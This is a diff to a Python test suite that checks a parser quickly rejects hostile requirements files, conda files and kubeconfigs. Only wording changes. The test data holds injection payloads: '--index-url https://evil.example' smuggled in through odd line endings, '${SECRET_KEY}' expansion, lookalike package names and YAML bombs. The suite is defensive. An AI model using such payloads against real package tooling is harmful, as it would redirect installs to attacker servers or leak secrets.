@@ -1,4 +1,4 @@
-"""Requirement files, conda files and kubeconfigs made to do something else: each is refused in words, at once."""
+"""Malicious requirements files, conda files and kubeconfigs: rejected quickly, with a clear message."""
 
 import os
 import signal
@@ -27,7 +27,7 @@ MERGES = "a: &a {x: 1}\n" + "".join(
 )
 
 REQUIREMENTS = [
-    # a line that ends earlier or later than one thinks: what follows would be an option of uv
+    # unusual line ends, after which uv would read an option
     *(
         f"numpy; os_name == 'x{end}--index-url https://evil.example'"
         for end in "\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
@@ -36,7 +36,7 @@ REQUIREMENTS = [
     "numpy \\\r\n--index-url https://evil.example",
     "numpy \\\n\n--index-url https://evil.example",
     "numpy; os_name == '\0'",
-    # what uv would look up: variables, paths, URLs
+    # variables, paths and URLs that uv would resolve
     "numpy===${SECRET_KEY}",
     "numpy===$SECRET_KEY",
     "numpy; os_name == '${SECRET_KEY}'",
@@ -62,7 +62,7 @@ REQUIREMENTS = [
     "--constraint https://evil.example",
     "--config-settings x=y",
     "--use-feature=x",
-    # names that look like others
+    # lookalike names
     "num\u0440y==1",
     "numpy\u200b",
     "a[\u0430]",
@@ -119,9 +119,9 @@ YAMLS = [
 
 @contextmanager
 def in_time() -> Iterator[None]:
-    """Fails what it surrounds after SECONDS: a reader that hangs hangs for hours."""
+    """Fail the enclosed block after SECONDS: a hanging parser would hang for hours."""
 
-    def late(number: int, frame: FrameType | None) -> None:
+    def late(_: int, __: FrameType | None) -> None:
         raise AssertionError(f"not through after {SECONDS} s")
 
     before = signal.signal(signal.SIGALRM, late)
@@ -134,7 +134,7 @@ def in_time() -> Iterator[None]:
 
 
 def findings(texts: list[str], read: Callable[[str], object], refusal: type[Exception]) -> list[str]:
-    """Which of the texts are not refused in words of our own."""
+    """Return the texts that aren't rejected with a message of ours."""
     found = []
     for text in texts:
         began = time.monotonic()
@@ -151,7 +151,7 @@ def findings(texts: list[str], read: Callable[[str], object], refusal: type[Exce
     return found
 
 
-def test_no_requirement_says_more_than_names_and_versions(record: dict[str, object]) -> None:
+def test_only_names_and_versions_are_accepted_as_requirements(record: dict[str, object]) -> None:
     found = findings(REQUIREMENTS, parse, RequirementsError)
     conda = [text for text in REQUIREMENTS if text.isprintable() and len(text) < 100 and "'" not in text]
     found += findings([f"dependencies: [{{pip: ['{text}']}}]" for text in conda], _conda, RequirementsError)
@@ -159,7 +159,7 @@ def test_no_requirement_says_more_than_names_and_versions(record: dict[str, obje
     assert not found, "\n".join(found)
 
 
-def test_no_yaml_of_a_stranger_hangs_or_constructs_anything(record: dict[str, object]) -> None:
+def test_no_untrusted_yaml_hangs_or_constructs_objects(record: dict[str, object]) -> None:
     found = findings(YAMLS, kubeconfig.server, EngineRefusedError)
     found += findings([text for text in YAMLS if text], _conda, RequirementsError)
     record |= {"hostile YAML": 2 * len(YAMLS), "findings": len(found)}
@@ -167,21 +167,21 @@ def test_no_yaml_of_a_stranger_hangs_or_constructs_anything(record: dict[str, ob
 
 
 def _conda(text: str) -> object:
-    """What a conda file asks for. One that asks for nothing is as good as refused."""
+    """Parse a conda file. Treat one without requirements as rejected."""
     environment = parse_conda(text, "3.11")
     if not environment.requirements:
         raise RequirementsError("It asks for nothing.")
     return environment
 
 
-def test_plain_yaml_is_read_as_ever() -> None:
+def test_plain_yaml_is_parsed() -> None:
     text = "a: [1, 'two', 3.5, true, null]\nb: {c: d}\ne: |\n  line\n  line\n"
     assert safe_yaml.load(text) == {"a": [1, "two", 3.5, True, None], "b": {"c": "d"}, "e": "line\nline\n"}
     assert safe_yaml.load('{"json": {"too": []}}') == {"json": {"too": []}}
 
 
 def test_a_kubeconfig_runs_no_program_and_reads_no_file(tmp_path: Path) -> None:
-    """Whoever read one of these files would wait for ever: nobody writes into them."""
+    """These files are pipes without a writer: opening one of them would block forever."""
     for name in ("token", "ca", "cert", "key", "kubeconfig"):
         os.mkfifo(tmp_path / name)
     text = f"""
@@ -207,7 +207,7 @@ users:
     assert not (tmp_path / "ran").exists()
 
 
-def test_a_refused_server_is_named_without_what_is_secret_in_it() -> None:
+def test_a_rejected_server_is_named_without_secrets() -> None:
     text = 'clusters: [{name: a, cluster: {server: "https://admin:word@k8s.example:6443/x?token=word#word"}}]'
     with pytest.raises(EngineRefusedError, match=r"cannot deploy to https://k8s\.example:6443/x yet") as refusal:
         engine_for(text)
